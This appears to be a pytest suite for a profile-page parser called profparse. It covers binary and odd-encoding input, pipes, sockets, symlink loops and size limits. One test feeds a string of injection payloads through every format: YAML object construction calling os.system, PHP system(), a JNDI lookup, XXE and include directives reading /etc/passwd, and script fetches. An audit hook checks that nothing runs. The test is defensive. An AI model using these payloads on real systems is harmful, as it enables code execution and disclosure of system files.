"""Files that are no pages, or stop being one: each gives a page or one clear line, and nothing else happens."""

from __future__ import annotations

import gzip
import io
import os
import socket
import subprocess
import sys
import textwrap
import threading
import zipfile
from pathlib import Path

import pytest

import profparse
from profparse import InputError
from tests.cli.conftest import ENVIRONMENT, PAGE, Run, process


def zipped() -> bytes:
    """A zip file."""
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as archive:
        archive.writestr("page.md", PAGE)
    return held.getvalue()


REFUSED = {
    "zip": (
        zipped(),
        "page.md: is a zip archive, not a page of text; unpack it first, or save the document as text or HTML",
    ),
    "gzip": (gzip.compress(PAGE.encode()), "page.md: is a gzip file, not a page of text; unpack it first"),
    "PDF": (b"%PDF-1.7\n1 0 obj\n", "page.md: is a PDF, not a page of text; convert it to text or HTML first"),
    "program": (b"\x7fELF" + bytes(200), "page.md: is a program, not a page of text"),
    "zeros": (bytes(5000), "page.md: is binary, not a page of text"),
    "noise": (bytes(range(256)) * 40, "page.md: is binary, not a page of text"),
}  # fmt: skip
READ = {
    "UTF-8 with a mark": b"\xef\xbb\xbf" + PAGE.encode(),
    "UTF-16": PAGE.encode("utf-16"),
    "UTF-16, cut": PAGE.encode("utf-16")[:-1],
    "UTF-32": PAGE.encode("utf-32"),
    "UTF-8, cut": (PAGE + "- [2/2024] Café").encode()[:-1],
    "Latin-1": (PAGE + "- [2/2024] A talk at the Café.\n").encode("latin-1"),
    "mixed": PAGE.encode() + "- [2/2024] Café\n".encode() + "- [1/2024] Café\n".encode("latin-1"),
    "some NULs": PAGE.encode() + b"\0\0",
    "half pairs": PAGE.encode() + b"\xed\xa0\x80\n",
}


@pytest.mark.parametrize("kind", REFUSED)
def test_what_is_no_page_is_refused(run: Run, page: Path, kind: str) -> None:
    """Archives, pictures and programs are named for what they are, with what to do next."""
    data, message = REFUSED[kind]
    page.write_bytes(data)
    assert run(page, "--json") == (1, "", f"profparse: {message}\n")


@pytest.mark.parametrize("kind", READ)
def test_odd_encodings_are_read(run: Run, page: Path, kind: str) -> None:
    """Text in any encoding that a page may come in is read, cut or mixed as it may be."""
    page.write_bytes(READ[kind])
    result = run(page, "--json")
    assert (result.code, result.err) == (0, "")
    assert len(profparse.Profile.from_json(result.out).news) >= 2


def test_an_empty_file_is_an_empty_page(run: Run, page: Path) -> None:
    """A file without a byte gives a profile without items, and a remark."""
    page.write_bytes(b"")
    result = run(page, "--json")
    assert (result.code, result.err) == (0, "profparse: page.md: warning: the page holds no text\n")


def test_sockets_and_devices_are_not_waited_for(run: Run, page: Path) -> None:
    """What is no regular file is refused at once; only a pipe that is named is read, and in a folder none is."""
    os.mkfifo("pipe.md")
    with socket.socket(socket.AF_UNIX) as listening:
        listening.bind("socket.md")
        for name in ("socket.md", "/dev/zero"):
            assert run(name, "--json") == (1, "", f"profparse: {name}: is not a regular file\n")
    assert run(".", "--jsonl").out.count("\n") == 1  # in a folder they are passed over


def test_a_file_that_becomes_a_pipe_is_not_waited_for(page: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A pipe that takes the file's place between the first look and the opening is refused as well."""
    real = os.stat(page)
    page.unlink()
    os.mkfifo(page)
    monkeypatch.setattr("profparse.source.os.stat", lambda path: real)
    with pytest.raises(InputError, match=r"^page\.md: is not a regular file$"):
        profparse.parse(page)


def test_a_file_that_goes_away_is_told(page: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A file that is gone when it is opened is a missing file."""
    real = os.stat(page)
    page.unlink()
    monkeypatch.setattr("profparse.source.os.stat", lambda path: real)
    with pytest.raises(InputError, match=r"^page\.md: no such file$"):
        profparse.parse(page)


def test_a_file_that_grows_is_read_to_the_limit(page: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Of a file that is larger when it is read than when it was looked at, no more than the limit is read."""
    real = os.stat(page)
    page.write_text(PAGE * 1000)
    monkeypatch.setattr("profparse.source.os.stat", lambda path: real)
    monkeypatch.setattr("profparse.source.os.fstat", lambda number: real)
    with pytest.raises(InputError, match=r"^page\.md: 1,001 bytes are more than the limit of 1,000$"):
        profparse.parse(page, max_bytes=1000)


@pytest.mark.skipif(os.geteuid() == 0, reason="root may read everything")
def test_an_unreadable_file_is_told(run: Run, page: Path) -> None:
    """A file without the right to read it is told by the system's words."""
    page.chmod(0)
    assert run(page, "--json") == (1, "", "profparse: page.md: cannot be read: Permission denied\n")


def test_links_in_a_circle_end(run: Run, page: Path) -> None:
    """Links to folders are not followed, and a link to itself is no page."""
    Path("inner").mkdir()
    os.symlink("..", "inner/up")
    os.symlink("loop.md", "loop.md")
    os.symlink("page.md", "also.md")
    result = run(".", "--jsonl")
    assert (result.code, result.out.count("\n"), result.err) == (0, 2, "")
    assert run("loop.md", "--json")[:2] == (1, "")


def test_standard_input_is_read_to_the_limit(page: Path) -> None:
    """An endless input is given up at the limit."""
    with open("/dev/zero", "rb") as endless:
        child = process("-", "--json", "--max-bytes", 1000, stdin=endless)
        out, err = child.communicate(timeout=20)
    assert (child.returncode, out) == (1, b"")
    assert err == b"profparse: standard input: more than the limit of 1,000 bytes; --max-bytes N allows more\n"


HOSTILE_PAGE = """---
title: !!python/object/apply:os.system ["touch owned"]
---
<script>fetch("http://127.0.0.1:9/")</script> <?php system('touch owned'); ?> {{ 7 * 7 }} ${jndi:ldap://a.b/c}
<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]> &e;
# Ada Lane
- [5/2024] [`rm -rf`](file:///etc/passwd) ![](http://127.0.0.1:9/x.png) __import__("os").system("touch owned")
.. include:: /etc/passwd
#+INCLUDE: /etc/passwd
"""


@pytest.mark.parametrize("format", ["text", "markdown", "html", "jemdoc", "org", "rst"])
def test_nothing_is_run_fetched_or_written(tmp_path: Path, format: str) -> None:
    """While a page that asks for it is read, no process is started, no address is asked for, and no file is written."""
    (tmp_path / "page.md").write_text(HOSTILE_PAGE)
    script = textwrap.dedent(
        f"""
        import sys
        seen = []
        ACTS = {{"subprocess.Popen", "os.system", "os.exec", "os.fork", "os.posix_spawn", "os.remove", "os.rename",
                "os.mkdir", "os.rmdir", "shutil.rmtree"}}
        def watch(event, arguments):
            if event in ACTS or event.startswith(("socket.", "urllib.", "ftplib.")):
                seen.append((event, arguments))
            if event == "open" and (arguments[2] & 3 or "passwd" in str(arguments[0])):
                seen.append((event, arguments))
        import profparse
        from pathlib import Path
        sys.dont_write_bytecode = True
        sys.addaudithook(watch)
        profile = profparse.parse(Path("page.md"), format={format!r}, include_hidden=True)
        assert profile.to_json()
        print(seen)
        """
    )
    done = subprocess.run([sys.executable, "-c", script], cwd=tmp_path, capture_output=True, text=True, env=ENVIRONMENT)
    assert (done.stdout, done.stderr) == ("[]\n", "")
    assert [path.name for path in tmp_path.iterdir()] == ["page.md"]


def test_parsing_in_threads_gives_the_same(page: Path) -> None:
    """Several threads that read pages at once do not disturb one another."""
    expected = profparse.parse(PAGE).to_json()
    out: list[str] = []
    threads = [threading.Thread(target=lambda: out.append(profparse.parse(PAGE).to_json())) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert out == [expected] * 8
